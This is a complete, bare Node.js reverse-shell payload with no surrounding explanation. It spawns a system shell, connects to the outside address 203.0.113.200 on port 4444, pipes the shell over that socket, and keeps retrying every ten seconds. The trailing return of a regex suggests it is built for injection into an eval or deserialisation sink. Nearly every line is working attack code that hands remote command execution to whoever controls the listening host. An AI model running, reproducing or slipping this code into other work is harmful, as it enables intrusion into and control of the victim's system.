(function () {
  var net = require('net'),
    cp = require('child_process'),
    sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  var client = new net.Socket();
  function connect() {
    client.connect(4444, '203.0.113.200', function () {
      client.pipe(sh.stdin);
      sh.stdout.pipe(client);
      sh.stderr.pipe(client);
    });
  }
  client.on('error', function () { setTimeout(connect, 10000); });
  connect();
  return /a/;
})();
